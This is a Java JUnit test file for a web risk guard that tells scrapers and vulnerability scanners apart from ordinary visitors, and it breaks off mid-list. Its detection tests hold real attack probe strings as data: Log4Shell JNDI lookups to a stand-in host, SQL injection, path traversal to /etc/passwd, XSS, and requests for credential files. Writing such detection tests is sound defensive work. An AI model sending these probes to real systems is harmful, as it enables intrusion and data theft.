package io.github.limiter.risk;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.limiter.annotation.Mode;
import io.github.limiter.path.RequestPath;
import io.github.limiter.path.TrapPaths;
import io.github.limiter.policy.RiskAction;
import io.github.limiter.subject.Caller;
import io.github.limiter.subject.ClientAddress;
import io.github.limiter.subject.ClientAddress.Origin;
import io.github.limiter.subject.DimensionRegistry;
import io.github.limiter.subject.IpAddress;
import io.github.limiter.subject.MissingUser;
import io.github.limiter.time.ManualTime;
import java.util.List;
import java.util.Objects;
import java.util.Random;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.NullSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whom the scenes hold back as they are, and whom they do not. */
class BuiltInSceneTests {

    private static final String BROWSER =
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36";

    private final ManualTime time = new ManualTime(1_000_000_000_123_457L);
    private final Random random = new Random(1);
    private RiskGuard guard;
    private RiskAction worst;

    @BeforeEach
    void begin() {
        guard = new RiskGuard(
                BuiltInScenes.names().stream()
                        .map(name -> BuiltInScenes.find(name, Mode.ENFORCE).orElseThrow())
                        .toList(),
                new DimensionRegistry(64, MissingUser.SKIP, List.of()),
                new MemoryRiskStore(10_000, time),
                GoodBots.published(),
                List.of(),
                TrapPaths.of(List.of(), "honeypots"),
                Sanctions.NONE);
        worst = RiskAction.ALLOW;
    }

    private static Caller at(String address, @Nullable String user) {
        return new Caller(
                new ClientAddress(Objects.requireNonNull(IpAddress.tryParse(address)), Origin.PEER), user, null);
    }

    private static RequestFacts request(String method, String path, @Nullable String agent, @Nullable String referrer) {
        int query = path.indexOf('?');
        return new RequestFacts(
                method,
                RequestPath.of(path),
                query < 0 ? null : path.substring(query + 1),
                agent,
                referrer,
                "en",
                true,
                true);
    }

    /** One that says that a page fetches it in the background. */
    private static RequestFacts fetch(String path, @Nullable String agent, @Nullable String referrer) {
        return new RequestFacts("GET", RequestPath.of(path), null, agent, referrer, "en", true, false);
    }

    private RiskAction happens(String scene, RiskEvent event, RiskResult result) {
        Assessment assessment = Objects.requireNonNull(
                guard.assess(scene, event).toCompletableFuture().join());
        if (assessment.action().compareTo(worst) > 0) {
            worst = assessment.action();
        }
        if (assessment.admits()) {
            guard.settle(scene, event, result);
        }
        return assessment.action();
    }

    private void pause(double seconds) {
        time.advanceMicros(Math.round(seconds * 1_000_000));
    }

    @Nested
    class ACrawler {

        private RiskAction asks(
                String method, String path, @Nullable String agent, @Nullable String referrer, int status) {
            return happens(
                    "crawler",
                    RiskEvent.of(at("203.0.113.7", null), request(method, path, agent, referrer)),
                    RiskResult.ofPage(status));
        }

        /** Honest programs: each says what it is, and comes by a timer. */
        @ParameterizedTest
        @CsvSource(delimiter = '|', textBlock = """
            Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/) | GET  | /              | 60
            kube-probe/1.27                                                        | GET  | /health        | 10
            Prometheus/2.45.0                                                      | GET  | /metrics       | 15
            Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers)       | GET  | /feed.xml      | 300
            Stripe/1.0 (+https://stripe.com/docs/webhooks)                         | POST | /hooks/pay     | 20
            python-requests/2.31.0                                                 | GET  | /api/stock.csv | 30
            okhttp/4.12.0                                                          | GET  | /api/v1/cart   | 7
            Shop/5.2 (iPhone; iOS 18.5; Scale/3.00) CFNetwork/1494.0.7             | GET  | /api/v1/cart   | 7
            Mozilla/5.0 (compatible; PRTG Network Monitor (www.paessler.com); Windows) | GET | /           | 60
            Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.1 | GET | /blog/42    | 300
            Mozilla/5.0 (Linux; Android 15; Pixel 9; wv) AppleWebKit/537.36 Chrome/138.0 | GET | /app/start | 20
            """)
        void isNotWhoeverSaysWhatItIs(String agent, String method, String path, int seconds) {
            for (int i = 0; i < 200; i++) {
                asks(method, path, agent, null, 200);
                pause(seconds + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotAPageThatLooksForNewsByATimer() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/api/notifications", BROWSER, "https://shop.example/", 200);
                pause(5 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotAPageThatLooksForNewsEveryThreeSeconds() {
            for (int i = 0; i < 400; i++) {
                asks("GET", "/api/notifications", BROWSER, "https://shop.example/", 200);
                pause(3 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotANamelessProgramThatLooksWhetherAllIsWell() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/ping", null, null, 200);
                pause(30 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotExcusedByPicturesThatAreNotThere() {
            for (int i = 0; i < 60; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                asks("GET", "/images/none.png", BROWSER, null, 404);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotWhoeverReadsAComicWhosePagesTellNobodyWhereOneComesFrom() {
            for (int i = 1; i <= 120; i++) {
                asks("GET", "/comic/" + i, BROWSER, null, 200);
                asks("GET", "/comic/images/" + i + ".png", BROWSER, null, 200);
                pause(2 + 8 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotExcusedByAPictureForTenPagesThatComesFromNowhere() {
            for (int i = 0; i < 100; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                if (i % 10 == 0) {
                    asks("GET", "/images/" + i + ".jpg", BROWSER, null, 200);
                }
                pause(4 + 2 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        /** Their browsers tell nobody where they come from, and have all but what is new on each third page. */
        @Test
        void isNotAReaderWithoutReferrersWhoHasMostPicturesAlready() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/story/" + random.nextInt(10_000), BROWSER, null, 200);
                if (i % 3 == 0) {
                    asks("GET", "/images/" + i + ".jpg", BROWSER, null, 200);
                }
                pause(10 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        private void fetches(String path, @Nullable String agent, @Nullable String referrer) {
            happens(
                    "crawler",
                    RiskEvent.of(at("203.0.113.7", null), fetch(path, agent, referrer)),
                    RiskResult.ofPage(200));
        }

        @Test
        void isWhoeverOnlyFetchesWhatBelongsToPagesThatHeNeverAskedFor() {
            for (int i = 0; i < 600; i++) {
                fetches("/products/" + random.nextInt(10_000), BROWSER, "https://shop.example/");
                pause(3 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverOnlyLooksWhetherPagesAreThere() {
            for (int i = 0; i < 100; i++) {
                asks("HEAD", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** A page that is an application, such as a map: all comes in the background, hours long. */
        @Test
        void isNotAPageThatFetchesHundredsOfThings() {
            asks("GET", "/map", BROWSER, null, 200);
            for (int i = 0; i < 1_500; i++) {
                fetches("/tiles/" + random.nextInt(10_000), BROWSER, "https://shop.example/map");
                pause(3 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** Nobody remembers its page: it was left open over night, or what was known has been lost. */
        @Test
        void isNotAPageOfFiguresThatLooksForNewOnesByATimer() {
            for (int i = 0; i < 600; i++) {
                for (int figure = 0; figure < 10; figure++) {
                    fetches("/api/figures/" + (char) ('a' + figure), BROWSER, "https://shop.example/");
                }
                pause(15 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isAToolThatWalksThroughNumbersHoweverSlowly() {
            for (int i = 0; i < 40; i++) {
                asks("GET", "/archive/log-" + (1_000 + i) + ".gz", "python-requests/2.31.0", null, 200);
                pause(40 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotAToolThatLoadsTheTwentyPartsOfSomething() {
            for (int i = 1; i <= 20; i++) {
                asks("GET", "/archive/part-" + i + ".bin", "Wget/1.21.4", null, 200);
                pause(40 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** They show pages to people, without their pictures. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "Mozilla/5.0 (Linux; Android 4.2.1; Nexus 5) AppleWebKit/535.19 Chrome/38.0 Mobile Safari/535.19 googleweblight",
                    "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)"
                })
        void isNotWhatFetchesPagesForPeople(String agent) {
            for (int i = 0; i < 60; i++) {
                asks("GET", "/story/" + random.nextInt(10_000), agent, null, 200);
                pause(5 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotExcusedByTheSameStyleForEachPage() {
            for (int i = 0; i < 60; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                asks("GET", "/css/site.css", BROWSER, null, 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        /** Five hundred pages, one every four to eight seconds: in order, or not; with the pictures of each, or not. */
        @ParameterizedTest
        @CsvSource(delimiter = '|', textBlock = """
            # agent                                               method   path             order  pictures
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | GET  | /products/       | true  | true  | CHALLENGE
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | GET  | /products/       | false | true  | ALLOW
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | GET  | /products/       | false | false | CHALLENGE
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | GET  | /product.php?id= | true  | true  | CHALLENGE
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | GET  | /product.php?id= | false | false | CHALLENGE
            Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0          | POST | /api/product/    | true  | false | CHALLENGE
            PriceFetcher 1.0                                      | GET  | /products/       | true  | false | CHALLENGE
            PriceFetcher 1.0                                      | GET  | /products/       | false | false | ALLOW
            Mozilla/5.0 (compatible; Fetch/1; +https://f.example) | GET  | /products/       | true  | false | CHALLENGE
            """)
        void isWhoeverTakesAllInOrderOrWithoutPictures(
                String agent, String method, String path, boolean inOrder, boolean pictures, RiskAction action) {
            for (int i = 0; i < 500; i++) {
                asks(method, path + (inOrder ? i : random.nextInt(100_000)), agent, "https://shop.example/", 200);
                if (pictures) {
                    asks("GET", "/images/p/" + i + ".jpg", agent, "https://shop.example/", 200);
                }
                pause(4 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(action);
        }

        @Test
        void isNotOneThatSaysSoAndKeepsTheDelayThatItWasAskedFor() {
            for (int i = 0; i < 600; i++) {
                asks(
                        "GET",
                        "/products/" + random.nextInt(10_000),
                        "Mozilla/5.0 (compatible; YandexBot/3.0)",
                        null,
                        200);
                pause(6 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotAPageThatKeepsItsAnswersFromBeingCached() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/api/news?_=" + (1_767_225_600_000L + i), BROWSER, "https://shop.example/", 200);
                pause(5 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        private void aNetworkReads(int addresses, int pagesEach, int pauseSeconds) {
            for (int i = 0; i < addresses * pagesEach; i++) {
                RequestFacts page = request("GET", "/wiki/" + random.nextInt(100_000), BROWSER, "https://x.example/");
                happens(
                        "crawler",
                        RiskEvent.of(at("198.51.100." + (1 + i % addresses), null), page),
                        RiskResult.SUCCESS);
                pause(pauseSeconds * 2 * random.nextDouble());
            }
        }

        @Test
        void isANetworkWhoseMembersHaveNoPictureToLoadAmongHundredsOfPages() {
            aNetworkReads(50, 15, 3);

            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        /** Forty others there do nothing alike: that there are many is held against nobody. */
        @ParameterizedTest
        @CsvSource({"/shop/, false, 80", "/shop/?page=, true, 59"})
        void isNotWhoeverReadsInABusyNetwork(String path, boolean inOrder, int pages) {
            for (int i = 0; i < pages; i++) {
                for (int neighbour = 0; neighbour < 6; neighbour++) {
                    String at = "203.0.113." + (20 + (6 * i + neighbour) % 40);
                    RequestFacts page =
                            request("GET", "/wiki/" + random.nextInt(100_000), BROWSER, "https://x.example/");
                    RequestFacts picture =
                            request("GET", "/images/" + i + neighbour + ".png", BROWSER, "https://x.example/");
                    happens("crawler", RiskEvent.of(at(at, null), page), RiskResult.SUCCESS);
                    happens("crawler", RiskEvent.of(at(at, null), picture), RiskResult.SUCCESS);
                }
                asks(
                        "GET",
                        path + (inOrder ? i : "item-" + Character.toString(0x4e00 + i)),
                        BROWSER,
                        "https://x.example/",
                        200);
                pause(3 + 6 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotOnePageThatIsNotThereAgainAndAgain() {
            for (int i = 0; i < 14; i++) {
                asks("GET", "/browse/old?x=" + i, BROWSER, "https://shop.example/", 404);
                pause(3 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** Half an hour of a shop's products, from one page, without a single picture. */
        @Test
        void isWhoeverLoadsHundredsOfProductsWithAReferrerAndNothingElse() {
            for (int i = 0; i < 278; i++) {
                asks("GET", "/products/" + random.nextInt(100_000), BROWSER, "https://shop.example/", 200);
                pause(4 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotACampusThatHasAllPicturesAlready() {
            aNetworkReads(40, 8, 3);

            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** Forty neighbours do nothing that anybody minds: there being so many of them is no sign of anything. */
        @ParameterizedTest
        @CsvSource({"true, true", "true, false", "false, true"})
        void isNobodyForHavingManyNeighbours(boolean inOrder, boolean referrer) {
            for (int i = 1; i < 60; i++) {
                happens(
                        "crawler",
                        RiskEvent.of(
                                at("198.51.100." + (100 + i % 40), null),
                                request("GET", "/images/" + i + ".jpg", BROWSER, "https://forum.example/")),
                        RiskResult.SUCCESS);
                String page = "/thread/55/page/" + (inOrder ? i : random.nextInt(100_000));
                happens(
                        "crawler",
                        RiskEvent.of(
                                at("198.51.100.7", null),
                                request("GET", page, BROWSER, referrer ? "https://forum.example/" : null)),
                        RiskResult.SUCCESS);
                if (!referrer) {
                    happens(
                            "crawler",
                            RiskEvent.of(
                                    at("198.51.100.7", null),
                                    request("GET", "/images/own/" + i + ".jpg", BROWSER, null)),
                            RiskResult.SUCCESS);
                }
                pause(4 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** What a page asks for behind its reader's back, and what he did not wait for. */
        @Test
        void isNotWhoPagesThroughWhatLooksForWhatIsGone() {
            for (int i = 1; i < 60; i++) {
                asks("GET", "/list?page=" + i, BROWSER, "https://shop.example/list", i % 3 == 0 ? 499 : 200);
                asks("GET", "/images/" + i + ".jpg", BROWSER, "https://shop.example/list", 200);
                asks("HEAD", "/preconnect_404", BROWSER, "https://shop.example/list", 404);
                pause(5 + 10 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotWhoeverReadsFromTheFirstPageToTheLast() {
            for (int i = 1; i < 60; i++) {
                asks("GET", "/thread/55/page/" + i, BROWSER, "https://forum.example/thread/55/page/" + (i - 1), 200);
                pause(4 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotWhoeverIsLedFromPageToPageOfALongThread() {
            for (int i = 1; i < 200; i++) {
                asks("GET", "/thread/55/page/" + i, BROWSER, "https://forum.example/thread/55/page/" + (i - 1), 200);
                pause(3 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** One or two pages each with their pictures, and each phone is an agent of its own. */
        @Test
        void isNotACarriersAddressWithManyPhones() {
            for (int i = 0; i < 300; i++) {
                String agent =
                        "Mozilla/5.0 (Linux; Android 14; Phone-" + i + ") AppleWebKit/537.36 Chrome/138.0 Mobile";
                for (int page = 0; page <= i % 2; page++) {
                    asks("GET", "/products/" + random.nextInt(10_000), agent, "https://search.example/", 200);
                    asks("GET", "/images/p/" + i + '-' + page + ".jpg", agent, "https://shop.example/", 200);
                }
                pause(3 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** As pages of a reader that caches articles do it: the answer is meant to be 404. */
        @Test
        void isNotACarriersAddressWhosePagesLookWhetherSomethingIsThere() {
            for (int i = 0; i < 100; i++) {
                String agent = "Mozilla/5.0 (iPhone; Version " + i + ") AppleWebKit/605.1.15 Mobile Safari";
                asks("GET", "/products/" + random.nextInt(10_000), agent, "https://cache.example/", 200);
                asks("GET", "/images/p/" + i + ".jpg", agent, "https://cache.example/", 200);
                asks("HEAD", "/polyfill_error_expected", agent, "https://cache.example/", 404);
                pause(10 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isWhoeverHasAnotherNameForEachPage() {
            for (int i = 0; i < 150; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER + i, "https://shop.example/", 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** Fifty files of a list, one after the other. */
        @ParameterizedTest
        @ValueSource(strings = {BROWSER, "Podcasts/3.0 (+https://podcasts.example/)"})
        void isNotWhoeverLoadsTheFilesOfAList(String agent) {
            for (int i = 0; i < 50; i++) {
                asks("GET", "/logs/access.log." + i + ".gz", agent, "https://data.example/logs/", 200);
                pause(4 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotWhoeverReadsThirtyFivePagesWithoutPicturesAndTellsNobodyWhereHeComesFrom() {
            for (int i = 0; i < 35; i++) {
                asks("GET", "/news/" + random.nextInt(10_000), BROWSER, null, 200);
                pause(2 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isWhoeverLooksForWhatIsThereWordByWord() {
            for (int i = 0; i < 100; i++) {
                asks("HEAD", "/" + (char) ('a' + i % 26) + "-word-" + i, BROWSER, null, 404);
                pause(6.5 + 2.5 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotASearchEngineWithOldAddresses() {
            for (int i = 0; i < 60; i++) {
                asks("GET", "/old/page" + i + ".php", "Mozilla/5.0 (compatible; YandexBot/3.0)", null, 404);
                pause(15 + 10 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @ParameterizedTest
        @ValueSource(strings = {"Mozilla/5.0 (compatible;)", "Mozilla/4.0 (compatible; )"})
        void isWhoeverSaysOnlyThatItIsLikeOthers(String agent) {
            for (int i = 0; i < 60; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), agent, null, 200);
                pause(2 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotABrowserThatReadsFeeds() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/feeds/" + i % 30 + "/atom", BROWSER, null, 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotATabWhoseSessionHasRunOut() {
            for (int i = 0; i < 200; i++) {
                asks("GET", "/api/notifications", BROWSER, "https://shop.example/", 401);
                pause(5 + random.nextDouble() / 20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isWhoeverReadsHundredsOfPagesWithoutAPicture() {
            for (int i = 0; i < 400; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, "https://shop.example/", 200);
                pause(2 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverReadsHundredsOfPagesInTheirOrderWithoutAPicture() {
            for (int i = 0; i < 400; i++) {
                asks("GET", "/products/" + i, BROWSER, "https://shop.example/", 200);
                pause(5 + 20 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverReadsHundredsOfPagesInAnHourWithAPictureForEach() {
            for (int i = 0; i < 400; i++) {
                asks("GET", "/products/" + i, BROWSER, "https://shop.example/", 200);
                asks("GET", "/css/site.css", BROWSER, "https://shop.example/", 200);
                pause(3 + 6 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isABrowserWithoutAName() {
            for (int i = 0; i < 40; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), null, null, 200);
                pause(5 + 2 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** Their caches are full, but for what is new. */
        @Test
        void isNotAnOfficeThatHasAlmostAllPicturesAlready() {
            for (int i = 0; i < 2_000; i++) {
                if (i % 60 == 0) {
                    asks("GET", "/wiki/images/" + i + ".png", BROWSER, "https://x/", 200);
                }
                asks(
                        "GET",
                        "/wiki/page-" + (char) ('a' + random.nextInt(26)) + random.nextInt(10),
                        BROWSER,
                        "https://x/",
                        200);
                pause(2 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isABrowserThatShowsNoPicturesAndComesFromNowhere() {
            for (int i = 0; i < 45; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotExcusedByAnIconForEachPage() {
            for (int i = 0; i < 150; i++) {
                asks("GET", "/products/" + random.nextInt(10_000), BROWSER, null, 200);
                asks("GET", "/favicon.ico", BROWSER, null, 200);
                pause(2 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isAToolThatWalksThroughNumbers() {
            for (int i = 0; i < 100; i++) {
                asks("GET", "/products/" + i, "python-requests/2.31.0", null, 200);
                pause(2 + 2 * random.nextDouble());
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotHeldAgainstItsNeighbours() {
            for (int i = 0; i < 300; i++) {
                asks("GET", "/products/" + i, BROWSER, null, 200);
                pause(2 + 2 * random.nextDouble());
                if (i % 30 == 0) {
                    RequestFacts first = request("GET", "/", BROWSER, "https://search.example/");
                    Assessment neighbour = Objects.requireNonNull(guard.assess(
                                    "crawler", RiskEvent.of(at("203.0.113." + (10 + i / 30), null), first))
                            .toCompletableFuture()
                            .join());
                    assertThat(neighbour.findings()).isEmpty();
                }
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @ParameterizedTest
        @CsvSource({
            "'/.env /.git/HEAD /.aws/credentials', 404",
            "'/.env /.git/HEAD /.aws/credentials', 301",
            "'/.env /.git/HEAD /.aws/credentials', 200",
            "'/.env.production /.Git-credentials /backup.tar.xz', 404",
            "'/actuator/env /v2/api-docs /login.action', 404",
            "'/cgi-bin/.%2e/.%2e/bin/sh /wp-config.php.bak /x/../../etc/passwd', 404",
            "'/cgi-bin/.%2e/.%2e/bin/sh /cgi-bin/.%2e/.%2e/bin/sh', 400",
            "'/.env', 404",
            "'/wp-login.php /wp-login.php', 404",
            "'/wordpress/wp-login.php /blog/wp-login.php', 404",
            "'/phpmyadmin/ /phpMyAdmin/', 404",
            "'/manager/html /manager/html', 404",
            "'/muieblackcat /phpMyAdmin/scripts/setup.php', 404",
            "'//dede/login.php //plus/mytag_js.php', 404",
            "'/cgi-bin/test-cgi /cgi-bin/php5', 404",
            "'/wls-wsat/CoordinatorPortType /wls-wsat/CoordinatorPortType11', 404",
            "'/currentsetting.htm /HNAP1', 404",
            "'/TP/public/index.php /html/public/index.php', 404",
            "'/dbadmin/ /sqlweb/', 404",
            "'/a2billing/ /vtigercrm/vtigerservice.php', 404",
            "'/wp-content/plugins/revslider/temp/ /wp-content/themes/x/404.php', 404",
            "'/wp-login.php /wp-content/plugins/wp-file-manager/readme.txt /wp-json/wp/v2/users', 404",
            "'/vpn/../vpns/cfg/smb.conf /logon/LogonPoint/index.html', 404",
            "'/dana-na/auth/url_default/welcome.cgi /remote/login', 404",
            "'/SDK/webLanguage /ISAPI/Security/users', 404",
            "'/backup.zip /www.tar.gz', 404",
            "'/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array', 404",
            "'/?x=${jndi:ldap://198.51.100.7/a} /?x=$%7Bjndi:dns://198.51.100.7/b%7D', 200",
            "'/item?id=1%20UNION%20SELECT%20NULL /item?id=1%27%20OR%201=1--', 200",
            "'/view?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd /view?file=..%252f..%252fetc%252fpasswd', 200",
            "'/search?q=%3Cscript%3Ealert(1)%3C/script%3E /search?q=%22%3E%3Csvg+onload=1%3E', 200"
        })
        void isWhoeverLooksForHoles(String paths, int status) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, null, status);
                pause(2);
            }
            assertThat(asks("GET", "/", BROWSER, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** No site links to it, and nobody keeps a bookmark of it: each time counts. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "GET /wp-login.php",
                    "POST /xmlrpc.php",
                    "GET /blog/wp-login.php /wordpress/wp-login.php",
                    "GET /phpMyAdmin/",
                    "GET /phpMyAdmin-4.8.1/index.php",
                    "GET /manager/html",
                    "GET /wls-wsat/CoordinatorPortType /_async/AsyncResponseService",
                    "GET /HNAP1 /currentsetting.htm",
                    "GET /cgi-bin/php /cgi-bin/php5",
                    "GET /elrekt.php",
                    "GET /jenkins/script /script",
                    "GET /a2billing/admin/Public/index.php",
                    "GET /muieblackcat",
                    "GET /mysql/dbadmin/index.php /db/webadmin/",
                    "GET /stalker_portal/c/version.js",
                    "CONNECT /mail.example:25"
                })
        void isWhoeverAsksAgainForWhatNoSiteLinksTo(String requests) {
            String[] words = requests.split(" ");
            for (int i = 0; i < 2; i++) {
                asks(words[0], words[1 + i % (words.length - 1)], BROWSER, "https://shop.example/", 404);
                pause(2);
            }
            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "/1.php /2.php",
                    "/x.php /up.php",
                    "/config.php~ /configuration.php.old",
                    "/cgi-bin/bash /cgi-bin/test.cgi",
                    "/zabbix/ /cacti/",
                    "/kcfinder/browse.php /elfinder/php/connector.minimal.php"
                })
        void isWhoeverLooksForWhatOthersHaveLeft(String paths) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, null, 404);
                pause(2);
            }
            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverPostsToScriptsThatAreNotThere() {
            asks("POST", "/xw.php", BROWSER, null, 404);
            asks("POST", "/wuwu11.php", BROWSER, "https://shop.example/wuwu11.php", 404);
            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverLooksForAProxy() {
            for (int i = 0; i < 3; i++) {
                asks("CONNECT", "/mail.example:25", BROWSER, null, 405);
                pause(2);
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** The client of a gateway that has moved goes on looking for it. */
        @Test
        void isNotAProgramThatAsksForTheSameHoleAgain() {
            for (int i = 0; i < 20; i++) {
                asks("GET", "/global-protect/prelogin.esp", "PAN GlobalProtect/6.0 (Windows)", null, 404);
                pause(20 + 5 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isWhoeverLooksForHolesByItsName() {
            String agent = "${jndi:ldap://198.51.100.7/a}";
            asks("GET", "/", agent, null, 200);
            asks("GET", "/login", agent, null, 200);
            assertThat(asks("GET", "/search", agent, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        /** On a site for programs, books or data, page by page; and pictures that a page names by a way out of its directory. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "/search?q=c%2B%2B+union+select /search?q=how+to+use+%2Fbin%2Fbash /search?q=%3Cscript%3E+tag"
                            + " /search?q=etc%2Fpasswd /search?q=..%2F..+relative+path",
                    "/?s=function()+%7B /?s=${jndi: /?s=cmd.exe /?s=xp_cmdshell /?s=php://input+stream",
